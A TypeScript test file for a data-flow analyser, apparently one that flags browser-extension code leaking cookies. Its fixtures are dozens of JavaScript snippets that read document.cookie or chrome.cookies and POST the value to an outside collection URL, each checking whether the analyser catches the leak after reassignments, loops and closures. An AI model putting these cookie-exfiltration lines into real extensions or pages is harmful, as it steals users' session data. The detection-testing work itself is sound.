import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../testing/flows-between.ts';

const send = (value: string): string =>
  `fetch('https://in.gather.dev/a', { method: 'POST', body: ${value} });`;
const secret = 'document.cookie';

function isSent(code: string): boolean {
  return flowsBetween({ 'content.js': code }).some((flow) => flow.startsWith('cookies '));
}

describe('a value that is overwritten before the variable is read', () => {
  const hidden: Readonly<Record<string, string>> = {
    'by an assignment': `var a = ${secret}; a = 'x'; ${send('a')}`,
    'in a function': `function f() { var a = ${secret}; a = 'x'; ${send('a')} } f();`,
    'by a pattern': `let a = ${secret}; [a] = ['x']; ${send('a')}`,
    'by a swap': `let a = ${secret}, b = 'x'; [a, b] = [b, a]; ${send('a')}`,
    'by a swap with a third name': `let a = ${secret}, b = 'x'; const c = a; a = b; b = c; ${send('a')}`,
    'by what is made of another': `let a = ${secret}; a = String(5); a = a + 'x'; ${send('a')}`,
    'in the same branch': `let a = ${secret}; if (b) { a = 'x'; ${send('a')} }`,
    'in the other branch': `let a; if (b) { a = ${secret}; use(a) } else { a = 'x'; ${send('a')} }`,
    'in the same case': `let a; switch (b) { case 1: a = ${secret}; use(a); break; case 2: a = 'x'; ${send('a')} }`,
    'in each round of a loop': `let a; for (const b of c) { a = 'x'; ${send('a')} a = ${secret}; use(a) }`,
    'by the values of a loop': `let a = ${secret}; for (a of ['x', 'y']) ${send('a')}`,
    'by the test of a loop': `let a = ${secret}; while ((a = next())) ${send('a')}`,
    'after a loop': `let a; for (const b of c) a = ${secret}; a = 'x'; ${send('a')}`,
    'in a finally': `let a = ${secret}; try { use(a) } finally { a = 'x' } ${send('a')}`,
    'of a parameter': `function f(a) { a = 'x'; ${send('a')} } f(${secret});`,
    'of a default': `function f(a = ${secret}) { a = 'x'; ${send('a')} } f();`,
    'of an argument of a call in place': `(function (a) { a = 'x'; ${send('a')} })(${secret});`,
    'in a sequence': `let a = ${secret}; (a = 'x', ${send('a').slice(0, -1)});`,
    'before an argument': `let a = ${secret}; f((a = 'x'), ${send('a').slice(0, -1)});`,
    'and is assigned later': `let a = 'x'; ${send('a')} a = ${secret};`,
    'by a member': `const o = {}; o.k = ${secret}; o.k = 'x'; ${send('o.k')}`,
    'as a member that the literal gives': `const o = { k: ${secret} }; o.k = 'x'; ${send('o.k')}`,
    'as a member of an object that is sent whole': `const o = { k: ${secret} }; o.k = 'x'; ${send('o')}`,
    'as one of two members': `const o = { k: ${secret}, l: 5 }; o.k = 'x'; o.l = 'y'; ${send('o')}`,
  };
  for (const [name, code] of Object.entries(hidden))
    it(`is not sent: ${name}`, () => assert.equal(isSent(code), false));

  it('is no global any more', () => {
    const code = `let c = chrome.cookies; c = { getAll: (a, f) => f('x') }; c.getAll({}, (all) => { ${send('all')} });`;
    assert.deepEqual(
      flowsBetween({ 'worker.js': code }).filter((flow) => flow.startsWith('cookies ')),
      [],
    );
  });
});

describe('a value that may be left when the variable is read', () => {
  const left: Readonly<Record<string, string>> = {
    'before the next assignment': `var a = ${secret}; ${send('a')} a = 'x';`,
    'of a copy': `let a = ${secret}; const b = a; a = 'x'; ${send('b')}`,
    'of the right side of its own assignment': `let a = ${secret}; a = a + 'x'; ${send('a')}`,
    'of a sum': `let a = 'x'; a += ${secret}; ${send('a')}`,
    'before a sum': `let a = ${secret}; a += 'x'; ${send('a')}`,
    'after a swap': `let a = 'x', b = ${secret}; [a, b] = [b, a]; ${send('a')}`,
    'of a condition': `let a = ${secret}; if (b) a = 'x'; ${send('a')}`,
    'of an alternative': `let a = ${secret}; b ? (a = 'x') : c(); ${send('a')}`,
    'behind &&': `let a = ${secret}; b && (a = 'x'); ${send('a')}`,
    'behind ?.': `let a = ${secret}; b?.c((a = 'x')); ${send('a')}`,
    'behind ||=': `let a = ${secret}; a ||= 'x'; ${send('a')}`,
    'of ??=': `let a = null; a ??= ${secret}; ${send('a')}`,
    'behind ||= of another': `let a = ${secret}; b ||= a = 'x'; ${send('a')}`,
    'of an else': `let a; if (b) a = 'x'; else a = ${secret}; ${send('a')}`,
    'of an else if': `let a = ${secret}; if (b) a = 'x'; else if ((a = 'y')) c(); ${send('a')}`,
    'of a case': `let a = ${secret}; switch (b) { case 1: a = 'x'; } ${send('a')}`,
    'of a case that falls through': `let a; switch (b) { case 1: a = ${secret}; case 2: ${send('a')} }`,
    'past a case': `let a = ${secret}; switch (b) { case 1: a = 'x'; case 2: ${send('a')} }`,
    'past the test of a case': `let a = ${secret}; switch (b) { case 1: case (a = 'x'): ${send('a')} }`,
    'of a case in the next round': `for (let a, b = 1; ; b -= 1) switch (b) { case 0: ${send('a')} case 1: a = ${secret}; }`,
    'of a try': `let a = ${secret}; try { f(); a = 'x' } catch {} ${send('a')}`,
    'in a catch': `let a = ${secret}; try { f(); a = 'x' } catch { ${send('a')} }`,
    'in a finally': `let a = ${secret}; try { f(); a = 'x' } finally { ${send('a')} }`,
    'of a try in its catch': `let a; try { a = ${secret}; f(); a = 'x' } catch { ${send('a')} }`,
    'of a catch': `let a = 'x'; try { f() } catch { a = ${secret} } ${send('a')}`,
    'of a loop': `let a = ${secret}; for (const b of c) a = 'x'; ${send('a')}`,
    'of a loop over values': `let a = 'x'; for (a of [${secret}]) ${send('a')}`,
    'of a loop over nothing': `let a = ${secret}; for (a of []) f(); ${send('a')}`,
    'of the round before': `let a = 'x'; for (const b of c) { ${send('a')} a = ${secret} }`,
    'of the round before, set outside': `let a; for (a = 'x'; b; c()) { ${send('a')} a = ${secret} }`,
    'of the round before, set in the list': `let a; for (const b of (a = 'x', c)) { ${send('a')} a = ${secret} }`,
    'of an outer round before': `for (let a, b = 0; b < 2; b += 1) { for (;;) { a = 'x'; break } if (b) { a = ${secret}; continue } ${send('a')} }`,
    'of an inner round': `let a; for (;;) { a = 'x'; for (;;) { ${send('a')} a = ${secret} } }`,
    'of a while': `let a = 'x'; while (f()) { ${send('a')} a = ${secret} }`,
    'of a do': `let a = 'x'; do { ${send('a')} a = ${secret} } while (f());`,
    'in the test of a do': `let a = ${secret}; do { if (f()) continue; a = 'x' } while (${send('a').slice(0, -1)});`,
    'in the update of a for': `let a; for (; (a = 'x'); ${send('a').slice(0, -1)}) a = ${secret};`,
    'of the update of a for': `let a = 'x'; for (;; a = ${secret}) ${send('a')}`,
    'past continue': `let a = ${secret}; for (;;) { if (f()) continue; a = 'x'; break } ${send('a')}`,
    'past break of a block': `let a = ${secret}; out: { if (f()) break out; a = 'x' } ${send('a')}`,
    'before an early return': `function g() { let a = ${secret}; if (f()) { a = 'x'; return } ${send('a')} } g();`,
    'in a closure': `let a = ${secret}; const g = () => { ${send('a')} }; g(); a = 'x';`,
    'of a closure': `let a = 'x'; const g = () => { a = ${secret} }; a = 'y'; g(); ${send('a')}`,
    'of a callback': `let a = 'x'; f(() => { a = ${secret} }); a = 'y'; setTimeout(() => { ${send('a')} });`,
    'of a function around': `let a = 'x'; function g() { a = 'y'; h(); ${send('a')} } function h() { a = ${secret} } g();`,
    'of an asynchronous function': `let a; async function g() { a = 'x'; await f(); ${send('a')} a = ${secret} } g();`,
    'of a parameter': `function f(a) { if (b) a = 'x'; ${send('a')} } f(${secret});`,
    'of a parameter behind': `function f(a) { ${send('a')} a = 'x' } f(${secret});`,
    'of a default': `function f(a = ${secret}) { ${send('a')} a = 'x' } f();`,
    'of a default in another': `function f(a = ${secret}, b = a) { a = 'x'; ${send('b')} } f();`,
    'of a pattern': `let a = 'x'; ({ a } = { a: ${secret} }); ${send('a')}`,
    'of a default in a pattern': `let a = 'x'; ({ a = ${secret} } = f()); ${send('a')}`,
    'of a default in a declaration': `const { a = ${secret} } = f(); ${send('a')}`,
    'of a default of a loop': `var a; for ({ a = ${secret} } = f(); ;) ${send('a')}`,
    'within one pattern': `let a, b; ({ a, b = a } = { a: ${secret} }); ${send('b')}`,
    'in a field of a class': `let a = 'x'; class C { b = a } a = ${secret}; const { b } = new C(); ${send('b')}`,
    'by a field of a class': `let a = 'x'; class C { b = (a = ${secret}) } a = 'y'; new C(); ${send('a')}`,
    'of a function that is hoisted': `g(); function g() { ${send(secret)} } g = f;`,
    'of a declaration without a value': `var a = ${secret}; var a; ${send('a')}`,
    'read in a text': `var a = ${secret}; eval("${send('a').replaceAll("'", '`')}"); a = 'x';`,
    'of a member behind': `const o = { k: 'x' }; o.k = 'y'; f(o); list.push(o); o.k = ${secret}; ${send('list')} ${send('o')}`,
    'of a member before it is read': `const o = {}; o.k = ${secret}; ${send('o')} o.k = 'x';`,
    'of a member with a condition': `const o = { k: ${secret} }; if (b) o.k = 'x'; ${send('o')}`,
    'of a member that is added to': `const o = { k: ${secret} }; o.k += 'x'; ${send('o')}`,
    'of another member': `const o = { k: ${secret}, l: 5 }; o.l = 'x'; ${send('o')}`,
    'of a member below': `const o = { k: { l: ${secret}, m: 5 } }; o.k.m = 'x'; ${send('o')}`,
    'of a member that is kept': `const o = { k: ${secret} }; const b = o.k; o.k = 'x'; ${send('b')}`,
    'of a member with a setter': `const o = { set k(v) { this.l = v } }; o.k = ${secret}; o.k = 'x'; ${send('o')}`,
    'of a member in a closure': `const o = { k: 'x' }; o.k = 'y'; f(() => { o.k = ${secret} }); setTimeout(() => { ${send('o')} });`,
    'of a member that is frozen': `const o = { k: ${secret} }; Object.freeze(o); o.k = 'x'; ${send('o')}`,
    'of a member of what a method has hold of': `const o = { k: ${secret} }; o.valueOf(); o.k = 'x'; ${send('o')}`,
    'of a member under another name': `const o = { k: 'x' }; const p = o; o.k = 'y'; p.k = ${secret}; ${send('o.k')}`,
    'of a member by a computed key': `const o = { k: 'x' }; o.k = 'y'; o[f()] = ${secret}; ${send('o')}`,
  };
  for (const [name, code] of Object.entries(left))
    it(`is sent: ${name}`, () => assert.equal(isSent(code), true));
});

describe('a function that is assigned again', () => {
  const post = `(data) => { ${send('data')} }`;
  const quiet = '(data) => console.log(data)';
  it('is not called where another one is', () => {
    assert.equal(isSent(`let f = ${post}; f = ${quiet}; f(${secret});`), false);
    assert.equal(isSent(`const o = { f: ${post} }; o.f = ${quiet}; o.f(${secret});`), false);
    assert.equal(isSent(`const o = {}; o.f = ${post}; o.f = ${quiet}; o.f(${secret});`), false);
  });

  it('is called before, after and where it may be', () => {
    assert.equal(isSent(`let f = ${post}; f(${secret}); f = ${quiet};`), true);
    assert.equal(isSent(`let f = ${quiet}; f = ${post}; f(${secret});`), true);
    assert.equal(isSent(`let f = ${post}; if (b) f = ${quiet}; f(${secret});`), true);
    assert.equal(isSent(`const o = { f: ${post} }; o.f(${secret}); o.f = ${quiet};`), true);
    assert.equal(isSent(`const o = { f: ${quiet} }; o.f = ${post}; o.f(${secret});`), true);
    assert.equal(isSent(`const o = { f: ${post} }; if (b) o.f = ${quiet}; o.f(${secret});`), true);
    assert.equal(
      isSent(
        `const o = { f: ${quiet} }; o.f = ${quiet}; Object.assign(o, { f: ${post} }); o.f(${secret});`,
      ),
      true,
    );
  });
});

describe('a message that is assigned again', () => {
  const worker = `chrome.runtime.onMessage.addListener((m) => { ${send('m.k')} });`;
  const isPassed = (code: string): boolean =>
    flowsBetween({ 'worker.js': worker, 'content.js': code }).some((flow) =>
      flow.startsWith('cookies '),
    );

  it('is sent with what it holds then', () => {
    assert.equal(
      isPassed(`let m = { k: ${secret} }; m = { k: 'x' }; chrome.runtime.sendMessage(m);`),
      false,
    );
    assert.equal(
      isPassed(`let m = { k: 'x' }; m = { k: ${secret} }; chrome.runtime.sendMessage(m);`),
      true,
    );
    assert.equal(
      isPassed(`const m = { k: ${secret} }; m.k = 'x'; chrome.runtime.sendMessage(m);`),
      false,
    );
    assert.equal(
      isPassed(`const m = { k: 'x' }; m.k = ${secret}; chrome.runtime.sendMessage(m);`),
      true,
    );
  });
});
